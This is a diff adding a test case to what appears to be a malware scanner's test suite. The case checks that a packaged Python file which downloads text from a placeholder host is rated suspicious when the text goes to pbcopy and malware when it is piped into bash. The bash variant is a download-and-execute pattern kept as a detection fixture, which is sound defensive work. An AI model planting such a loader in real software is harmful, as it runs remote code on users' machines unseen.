@@ -288,3 +288,18 @@ test('an editor that opens a file named by an answer is no order from afar; the 
   );
   expect(await inspect('remote-code', edit('answer'))).toMatchObject([{ class: 'malware', score: 6 }]);
 });
+
+test('a program that takes text, not orders, may be fed what came over the network; a shell may not', async () => {
+  const feeding = (program: string): ReturnType<typeof wheel> =>
+    wheel({
+      'pkg/report.py': python(
+        'import subprocess, requests',
+        'def explain(topic):',
+        "    text = requests.get('https://api.service.invalid/text').text",
+        `    return subprocess.run([${JSON.stringify(program)}], input=text, capture_output=True)`,
+      ),
+    });
+
+  expect(await inspect('remote-code', feeding('pbcopy'))).toMatchObject([{ class: 'suspicious', score: 3 }]);
+  expect(await inspect('remote-code', feeding('bash'))).toMatchObject([{ class: 'malware', score: 6 }]);
+});
